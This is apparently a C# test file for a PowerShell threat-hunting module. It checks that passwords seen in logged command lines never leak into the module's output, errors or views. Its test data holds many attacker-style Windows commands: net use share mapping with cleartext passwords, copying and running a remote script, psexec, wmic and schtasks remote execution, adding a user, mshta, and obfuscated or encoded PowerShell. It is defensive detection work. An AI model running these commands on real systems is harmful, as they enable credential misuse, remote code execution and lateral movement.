using System;
using System.Collections.Generic;
using System.Linq;
using System.Management.Automation;
using System.Text;
using System.Text.Json;
using TurlaHunt.Tests.Hosting;
using TurlaHunt.Tests.Views;
using TurlaHunt.Tests.Writing;
using Xunit;

namespace TurlaHunt.Tests.Commands;

/// <summary>No password of any command line reaches anything that the module prints, says or hands on for writing.</summary>
public sealed class SecrecyTests : IDisposable
{
    private const string Secret = "Zq7-Not-A-Real-Passw0rd";

    private static readonly string[] Lines =
    [
        @"cmd.exe /c net use \\197.168.0.247\c$ {0} /user:administrator & copy /y \\197.168.0.247\c$\i.js j.js & j.js",
        @"net  use \\197.168.0.247\c$ {0} /user:administrator ",
        @"net use \\197.168.0.247\c$ /user:administrator {0}",
        @"net1 use /user:a ""{0}"" * \\10.1.2.3\x",
        @"net use \\nas\x {0} /u:b",
        @"net use http://u:{0}@197.168.0.247/x {0}",
        @"cmd /c n^et us""e"" \\197.168.0.247\c$ ""{0}"" >nul 2>&1",
        @"cmd /v /c ""set p={0}&net use \\197.168.0.247\c$ !p! /user:a""",
        @"cmd /c set p={0}&&call net use \\197.168.0.247\c$ %p% /user:a",
        @"powershell -c ""$p = '{0}'; net use \\197.168.0.247\c$ $p /user:a""",
        @"powershell -c ""net use '\\197.168.0.247\c$' '{0}' /user:a; dir""",
        @"powershell Start-Process net -ArgumentList 'use','\\197.168.0.247\c$','{0}'",
        @"powershell -c ""(New-Object -Com WScript.Network).MapNetworkDrive('Z:','\\197.168.0.247\c$',0,'u','{0}')""",
        @"powershell -c ""New-SmbMapping -RemotePath \\197.168.0.247\c$ -UserName a -Password {0}""",
        @"powershell -c ""New-PSDrive Z FileSystem \\197.168.0.247\c$ -Credential (ConvertTo-SecureString '{0}' -AsPlainText -Force)""",
        @"wmic /node:10.1.2.3 /user:a /password:{0} process call create ""cmd /c net use \\197.168.0.247\c$ {0}""",
        @"psexec \\10.1.2.3 -u a -p {0} cmd /c net use \\197.168.0.247\c$ {0}",
        @"schtasks /create /ru x /rp {0} /tr ""cmd /c net use \\197.168.0.247\c$ {0}"" /tn y",
        @"cmd /c cmdkey /add:197.168.0.247 /user:a /pass:{0} & dir \\197.168.0.247\c$",
        @"cmd /c for %i in (a b) do @net use \\197.168.0.247\c$ {0}",
        @"net user bob {0} /add & copy \\197.168.0.247\c$\x y",
        @"mshta vbscript:CreateObject(""WScript.Shell"").Run(""net use \\197.168.0.247\c$ {0} /user:a"",0)(window.close)",
    ];

    private static readonly string[] Forms =
        [Secret, Convert.ToBase64String(Encoding.Unicode.GetBytes(Secret)), Convert.ToBase64String(Encoding.UTF8.GetBytes(Secret))];

    private readonly HostedModule _module = new();
    private readonly TestFolder _folder = new();

    public void Dispose()
    {
        _module.Dispose();
        _folder.Dispose();
    }

    [Theory]
    [InlineData("Get-NetUseProcess")]
    [InlineData("Get-SuspiciousTaskCreation")]
    [InlineData("Get-OutboundSmbConnection")]
    [InlineData("Get-SmbCredentialUse")]
    [InlineData("Invoke-TurlaHunt")]
    [InlineData("Test-HuntVisibility")]
    public void Nothing_that_a_hunt_puts_out_holds_a_password(string hunt)
    {
        Arrange();
        HostedResult result = _module.Run($"{hunt} $x -Verbose -Debug", ("x", _folder.Path));
        Assert.NotEmpty(result.Errors);
        if (hunt == "Get-NetUseProcess")
        {
            Assert.True(result.Output.Count >= Lines.Length, $"{result.Output.Count}");
        }

        foreach (PSObject item in result.Output)
        {
            string[] shown =
            [
                JsonSerializer.Serialize(item.BaseObject, item.BaseObject.GetType()),
                PSSerializer.Serialize(item, 5),
                item.BaseObject.ToString()!,
                string.Join(",", item.Properties.Select(property => LanguagePrimitives.ConvertTo<string>(property.Value))),
                .. ListView.Of(_module, item).Values,
            ];
            AssertSecret(shown);
        }

        foreach (int width in new[] { 80, 400 })
        {
            _module.Width = width;
            AssertSecret([_module.Run($"{hunt} $x -ErrorAction SilentlyContinue", ("x", _folder.Path)).Text]);
        }

        AssertSecret(Said(result));
    }

    [Fact]
    public void Views_of_raw_events_do_not_show_a_password()
    {
        Arrange();
        HostedResult result = _module.Run("Get-HuntEvent $x -Verbose -Debug", ("x", _folder.Path));
        Assert.Contains(result.Objects.Cast<EventRecord>(), record => record.Data.ToString().Contains(Secret));
        AssertSecret(result.Output.Where(IsProcess).SelectMany(item => ListView.Of(_module, item).Values));
        _module.Width = 4000;
        AssertSecret([_module.Run("Get-HuntEvent $x -Id 4688, 1 -ErrorAction SilentlyContinue", ("x", _folder.Path)).Text]);
        AssertSecret(Said(result));

        static bool IsProcess(PSObject item) => item.BaseObject is EventRecord { Id: 4688 or 1 };
    }

    // The tests' console repeats what fails; what passes says nothing. So each text is looked at here.
    private static void AssertSecret(IEnumerable<string> texts)
    {
        foreach (string text in texts)
        {
            string bare = text.Replace("^", "", StringComparison.Ordinal).Replace("\n", "", StringComparison.Ordinal);
            int at = Forms.Max(form => bare.IndexOf(form, StringComparison.OrdinalIgnoreCase));
            Assert.True(at < 0, at < 0 ? "" : "A password shows behind: " + bare[..at]);
        }
    }

    private static IEnumerable<string> Said(HostedResult result) =>
        result.Errors.SelectMany(error => new[]
            {
                error.ToString(), error.Exception.ToString(), $"{error.TargetObject}", error.FullyQualifiedErrorId,
                error.ErrorDetails?.Message ?? "", error.ErrorDetails?.RecommendedAction ?? "",
            })
            .Concat(result.Warnings).Concat(result.Verbose).Concat(result.Debug).Concat(result.Information)
            .Concat(result.Progress.Select(record => record.ToString()));

    // Each line in both process events and as a task's action, one of them encoded, one by a renamed program; and a log that is cut.
    private void Arrange()
    {
        string[] lines =
        [
            .. Lines.Select(line => line.Replace("{0}", Secret, StringComparison.Ordinal)),
            "powershell -nop -enc " + Convert.ToBase64String(
                Encoding.Unicode.GetBytes($@"net use \\197.168.0.247\c$ {Secret} /user:administrator")),
        ];
        byte[] log = TestLog.Of(
        [
            .. lines.Select((line, i) => Logs.Process(line) with { Time = Logs.Noon.AddHours(i) }),
            .. lines.Select((line, i) => Logs.SysmonProcess(line, line) with { Time = Logs.Noon.AddDays(i + 2) }),
            Logs.SysmonProcess($@"c:\x\y.exe use \\197.168.0.247\c$ {Secret} /user:a", "explorer.exe", @"C:\x\y.exe", "net.exe"),
            .. lines.Select((line, i) => Logs.Task($@"\Task{i}", line.Split(' ')[0], Escaped(line[line.IndexOf(' ', StringComparison.Ordinal)..]))),
            Logs.Process(""),
        ]);
        _folder.Add("a.evtx", log);
        _folder.Add("cut.evtx", log[..^30_000]);
    }

    private static string Escaped(string text) => new System.Xml.Linq.XText(text).ToString();
}
